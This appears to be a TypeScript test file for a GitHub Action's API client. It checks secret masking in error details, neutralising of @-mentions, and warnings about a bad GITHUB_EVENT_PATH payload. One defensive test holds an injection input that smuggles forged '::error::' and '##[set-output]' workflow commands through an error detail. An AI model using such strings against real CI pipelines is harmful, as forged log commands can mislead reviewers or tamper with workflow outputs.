describe('secrets in error details', () => {
  const answer = (detail: string) => ({ status: 400, text: JSON.stringify({ detail }) });
  const ctx = { describe: 'POST deployment' };

  it('a secret with a tab or double spaces is masked although the detail is reflowed', () => {
    const secret = 'tab\tand  two  spaces-42';
    const out = captureOutputForTests(() => undefined);
    setSecret(secret);
    out();
    const message = errorFromResponse(answer(`bad value ${secret} here`), ctx, () => {}).message;
    expect(message).toContain('***');
    expect(message).not.toContain('spaces-42');
  });

  it('a secret the 600-character cut would halve is masked first', () => {
    const secret = 'S3CRET-'.repeat(10);
    const out = captureOutputForTests(() => undefined);
    setSecret(secret);
    out();
    const detail = `${'x'.repeat(570)} ${secret}`;
    const message = errorFromResponse(answer(detail), ctx, () => {}).message;
    expect(message).not.toContain('S3CRET');
  });

  it('a detail cannot forge a workflow command', () => {
    const message = errorFromResponse(
      answer('x\n::error::PWNED ##[set-output name=u;]y'),
      ctx,
      () => {},
    ).message;
    expect(message).not.toMatch(/\n|::|##\[/);
  });
});

describe('@-mentions from untrusted text', () => {
  it('escapeMarkdown notifies nobody', () => {
    const out = escapeMarkdown('cc @acme/platform-team and @octocat, mail a@b.example');
    expect(out).not.toMatch(/@[A-Za-z0-9]/);
    expect(out).toContain('@\u200bacme');
  });
});

describe('pull-request payload', () => {
  const dir = mkdtempSync(join(tmpdir(), 'payload-'));
  const file = (name: string, text: string) => {
    const path = join(dir, name);
    writeFileSync(path, text);
    return path;
  };
  const env = (path: string | undefined): NodeJS.ProcessEnv => ({
    GITHUB_EVENT_NAME: 'pull_request',
    ...(path !== undefined ? { GITHUB_EVENT_PATH: path } : {}),
  });

  it.each([
    ['not set', undefined, /GITHUB_EVENT_PATH is not set/],
    ['missing', join(dir, 'missing.json'), /cannot be read \(ENOENT\)/],
    ['empty', 'empty', /is empty/],
    ['not JSON', 'bad', /is not JSON/],
    ['without a PR', 'nopr', /names no pull request/],
  ])('%s: a warning naming GITHUB_EVENT_PATH', (_what, which, why) => {
    const path =
      which === 'empty'
        ? file('empty.json', '')
        : which === 'bad'
          ? file('bad.json', '{"pull_request":')
          : which === 'nopr'
            ? file('nopr.json', '{"action":"opened"}')
            : which;
    const problem = readGithubContext(env(path)).payloadProblem;
    expect(problem).toMatch(why);
    expect(problem).toContain('GITHUB_EVENT_PATH');
  });

  it('no warning for a good payload, or for another event', () => {
    const good = file(
      'good.json',
      JSON.stringify({ pull_request: { number: 3, head: {}, base: {} } }),
    );
    expect(readGithubContext(env(good)).payloadProblem).toBeUndefined();
    expect(readGithubContext({ GITHUB_EVENT_NAME: 'push' }).payloadProblem).toBeUndefined();
  });
});
